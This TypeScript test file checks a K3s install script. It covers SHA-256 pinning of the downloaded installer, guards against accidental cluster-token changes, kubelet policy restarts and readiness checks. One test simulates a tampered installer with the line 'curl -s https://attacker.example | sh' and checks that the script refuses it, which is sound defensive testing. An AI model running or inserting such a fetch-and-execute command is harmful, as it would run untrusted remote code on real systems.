// The K3s install script, run for real in bash against a throwaway root (NUMA_K3S_ROOT) with
// stand-ins for k3s, systemctl and curl on PATH that record what they were asked to do. The old
// script piped install.sh from the network into sh unchecked, and wrote whatever token it was given
// and restarted the server, which then could not decrypt its own bootstrap data.
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { K3S_FILES, K3sFile, K3sRole, PENDING_TOKEN_FILE, ROTATED_TOKEN_FILE, SERVER_TOKEN_FILE, k3sFilesPayload, installScript } from "../../k3s/scripts";
import { KUBELET_STATE_FILES } from "../../k3s/kubelet-config";
import { K3S_VERSION, installerUrl } from "../../k3s/version";

const TOKEN_A = "TokenAaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const TOKEN_B = "TokenBbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
const CA_HASH = "c0".repeat(32);
/** What the stand-in installer does: record that it ran, and "install" the release it was given. */
const INSTALLER = `#!/bin/sh\necho "installer $INSTALL_K3S_VERSION $INSTALL_K3S_EXEC" >>"$NUMA_K3S_ROOT/calls"\necho "$INSTALL_K3S_VERSION" >"$NUMA_K3S_ROOT/installed-version"\n`;
const sha256 = (text: string) => createHash("sha256").update(text).digest("hex");

let root: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), "k3s-install-"));
  const bin = join(root, "bin");
  mkdirSync(bin);
  const stub = (name: string, body: string) => {
    writeFileSync(join(bin, name), `#!/usr/bin/env bash\necho "${name} $*" >>"$NUMA_K3S_ROOT/calls"\n${body}\n`);
    chmodSync(join(bin, name), 0o755);
  };
  // k3s --version answers once something installed a release; the API server is always ready.
  stub("k3s", `if [[ $1 == --version ]]; then [[ -e $NUMA_K3S_ROOT/installed-version ]] || exit 1; echo "k3s version $(<"$NUMA_K3S_ROOT/installed-version") (abcdef12)"; fi; exit 0`);
  // show -p MainPID: one service process, unless the test makes it crash-loop (a new PID each time).
  stub("systemctl", `[[ $1 == is-active ]] && { [[ -e $NUMA_K3S_ROOT/active ]]; exit; }
if [[ $1 == show ]]; then
  if [[ -e $NUMA_K3S_ROOT/crash-loop ]]; then n=$(( $(cat "$NUMA_K3S_ROOT/crash-loop") + 1 )); echo "$n" >"$NUMA_K3S_ROOT/crash-loop"; echo "$n"; else echo 4242; fi
fi
exit 0`);
  stub("sleep", "exit 0");
  // curl -o FILE URL: what GitHub serves (the file "served"); any other call (the kubelet's healthz): ok.
  stub("curl", `out=""; while (($#)); do [[ $1 == -o ]] && { out=$2; shift; }; shift; done; [[ -z $out ]] || cp "$NUMA_K3S_ROOT/served" "$out"`);
  writeFileSync(join(root, "served"), INSTALLER);
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const at = (path: string) => join(root, path);
const read = (path: string) => readFileSync(at(path), "utf8");
const calls = () => (existsSync(at("calls")) ? read("calls") : "");
function put(path: string, text: string) {
  mkdirSync(join(at(path), ".."), { recursive: true });
  writeFileSync(at(path), text);
}

function install(role: K3sRole, token: string, opts: { sha256?: string; policy?: string; config?: string } = {}) {
  const script = installScript({
    role,
    version: K3S_VERSION,
    nodeName: "k3s-server-tasks",
    policyDigest: opts.policy ?? "0123456789abcdef",
    readyTimeoutSeconds: 30,
    installer: { url: installerUrl(K3S_VERSION), sha256: opts.sha256 ?? sha256(INSTALLER) },
  });
  const files: Partial<Record<K3sFile, string>> = { "config.yaml": opts.config ?? "node-name: k3s-server-tasks\n", "kubelet.yaml": "kind: KubeletConfiguration\n", "cluster-token": `${token}\n` };
  const r = spawnSync("bash", ["-c", script], {
    input: k3sFilesPayload(files),
    encoding: "utf8",
    env: { ...process.env, PATH: `${at("bin")}:${process.env.PATH}`, NUMA_K3S_ROOT: root, TMPDIR: root },
  });
  return { code: r.status, stderr: r.stderr };
}

/** A server that runs: installed, active, holding `token` as K3s writes it. */
function runningServer(token: string) {
  put("installed-version", `${K3S_VERSION}\n`);
  put("active", "");
  put(SERVER_TOKEN_FILE, `K10${CA_HASH}::server:${token}\n`);
  put(K3S_FILES["cluster-token"], `${token}\n`);
  put(K3S_FILES["config.yaml"], "node-name: k3s-server-tasks\n");
  put(K3S_FILES["kubelet.yaml"], "kind: KubeletConfiguration\n");
  put("/etc/rancher/k3s/numa-k3s-kubelet-policy", "0123456789abcdef\n");
  rmSync(at("calls"), { force: true });
}

describe("the install.sh it runs is the one whose sha256 was pinned", () => {
  it("downloads the tag's install.sh, checks it and runs it", () => {
    const r = install("server", TOKEN_A);
    expect(r.stderr).toContain("ready");
    expect(r.code).toBe(0);
    expect(calls()).toContain(`curl -fsSL --retry 3 -o ${root}/numa-k3s-install.`);
    expect(calls()).toContain(` ${installerUrl(K3S_VERSION)}`);
    expect(calls()).toContain(`installer ${K3S_VERSION} server`);
    expect(read(K3S_FILES["cluster-token"])).toBe(`${TOKEN_A}\n`);
  });

  it("other bytes than pinned (a changed or tampered install.sh): refused naming both sums, nothing installed", () => {
    const tampered = `${INSTALLER}curl -s https://attacker.example | sh\n`;
    writeFileSync(at("served"), tampered);
    const r = install("agent", TOKEN_A);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`refusing to run ${installerUrl(K3S_VERSION)}: its sha256 is ${sha256(tampered)}, expected ${sha256(INSTALLER)}`);
    expect(calls()).not.toContain("installer ");
    expect(existsSync(at("installed-version"))).toBe(false);
    // The downloaded file does not stay behind.
    expect(spawnSync("sh", ["-c", `ls ${root}/numa-k3s-install.* 2>/dev/null`]).stdout.toString()).toBe("");
  });
});

describe("the cluster token of a running server never changes by accident", () => {
  it("a new token (the RandomPassword replaced): refused, nothing written, no restart, secrets not printed", () => {
    runningServer(TOKEN_A);
    const r = install("server", TOKEN_B, { config: "node-name: k3s-server-tasks\nnode-ip: 10.0.0.9\n" });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/refusing to change the cluster token, since this server holds another one .*sudo k3s token rotate --token .*--new-token .*cluster-token\.pending.*cluster-token\.rotated, then pulumi up again/);
    expect(r.stderr).not.toContain(TOKEN_A);
    expect(r.stderr).not.toContain(TOKEN_B);
    expect(read(K3S_FILES["cluster-token"])).toBe(`${TOKEN_A}\n`);
    expect(read(K3S_FILES["config.yaml"])).toBe("node-name: k3s-server-tasks\n");
    expect(calls()).not.toMatch(/systemctl (restart|stop)|installer /);
    expect(read(PENDING_TOKEN_FILE)).toBe(`${TOKEN_B}\n`);
    expect(spawnSync("sh", ["-c", `ls -a ${at("/etc/rancher/k3s")} | grep '\\.new$'`]).stdout.toString()).toBe("");
  });

  it("the same token, as K3s stores it (K10<CA hash>::server:<token>): nothing to do, no restart", () => {
    runningServer(TOKEN_A);
    const r = install("server", TOKEN_A);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain("configuration unchanged: nothing to do");
    expect(calls()).not.toMatch(/systemctl (restart|stop)/);
  });

  it("a deliberate rotation (k3s token rotate, then the pending token renamed to .rotated) is taken, once", () => {
    runningServer(TOKEN_A);
    expect(install("server", TOKEN_B).code).toBe(1);
    // What the refusal says to do, with the stand-in k3s.
    const rotate = spawnSync("bash", ["-c", `k3s token rotate --token "$(cat ${at(SERVER_TOKEN_FILE)})" --new-token "$(cat ${at(PENDING_TOKEN_FILE)})" && mv ${at(PENDING_TOKEN_FILE)} ${at(ROTATED_TOKEN_FILE)}`], {
      env: { ...process.env, PATH: `${at("bin")}:${process.env.PATH}`, NUMA_K3S_ROOT: root },
    });
    expect(rotate.status).toBe(0);
    const r = install("server", TOKEN_B);
    expect(r.stderr).toContain("the cluster token was rotated");
    expect(r.code).toBe(0);
    expect(read(K3S_FILES["cluster-token"])).toBe(`${TOKEN_B}\n`);
    expect(calls()).toContain("systemctl restart k3s");
    expect(existsSync(at(ROTATED_TOKEN_FILE))).toBe(false);
  });

  it("an agent takes the token it is given (the server's install, which runs first, guards it)", () => {
    put("installed-version", `${K3S_VERSION}\n`);
    put(K3S_FILES["cluster-token"], `${TOKEN_A}\n`);
    const r = install("agent", TOKEN_B);
    expect(r.code).toBe(0);
    expect(read(K3S_FILES["cluster-token"])).toBe(`${TOKEN_B}\n`);
  });
});

describe("kubelet policy", () => {
  const stateFiles = () => KUBELET_STATE_FILES.filter((f) => existsSync(at(f)));
  it("a new policy: the server drains itself, stops, removes the CPU and memory manager state, uncordons", () => {
    runningServer(TOKEN_A);
    for (const f of KUBELET_STATE_FILES) put(f, "{}");
    const r = install("server", TOKEN_A, { policy: "fedcba9876543210" });
    expect(r.code).toBe(0);
    expect(stateFiles()).toEqual([]);
    expect(calls()).toMatch(/k3s kubectl drain k3s-server-tasks[\s\S]*systemctl stop k3s[\s\S]*systemctl restart k3s[\s\S]*k3s kubectl uncordon k3s-server-tasks/);
  });

  it("the same policy: the state files stay", () => {
    runningServer(TOKEN_A);
    for (const f of KUBELET_STATE_FILES) put(f, "{}");
    expect(install("server", TOKEN_A).code).toBe(0);
    expect(stateFiles()).toEqual([...KUBELET_STATE_FILES]);
  });
});

describe("ready means ready", () => {
  // The kubelet test (test/e2e/kubelet.test.ts) saw it: a kubelet that cannot use its state file
  // answers /healthz for a moment, exits, and systemd starts another.
  it("a service that answers but crash-loops (a new MainPID at every look) is never reported ready", () => {
    runningServer(TOKEN_A);
    put("crash-loop", "100\n");
    const r = install("server", TOKEN_A);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain("k3s did not become ready within 30s");
    expect(r.stderr).not.toMatch(/\bready$/m);
  });

  it("one process that answers twice, 5 s apart, is ready", () => {
    runningServer(TOKEN_A);
    const r = install("server", TOKEN_A);
    expect(r.code).toBe(0);
    expect(calls().match(/^systemctl show -p MainPID --value k3s$/gm)).toHaveLength(2);
    expect(calls()).toMatch(/^sleep 5$/m);
  });
});
